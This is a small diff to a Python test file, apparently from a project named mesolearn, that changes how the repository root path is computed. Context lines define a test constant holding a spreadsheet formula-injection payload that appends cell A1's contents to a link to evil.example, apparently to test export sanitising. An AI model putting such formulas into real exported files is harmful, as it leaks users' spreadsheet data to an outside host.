@@ -17,7 +17,7 @@ from mesolearn.storage import Database
 from tests.conftest import Clock
 from tests.factories import take
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 T0 = datetime(2030, 3, 1, 9, 0, 0)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
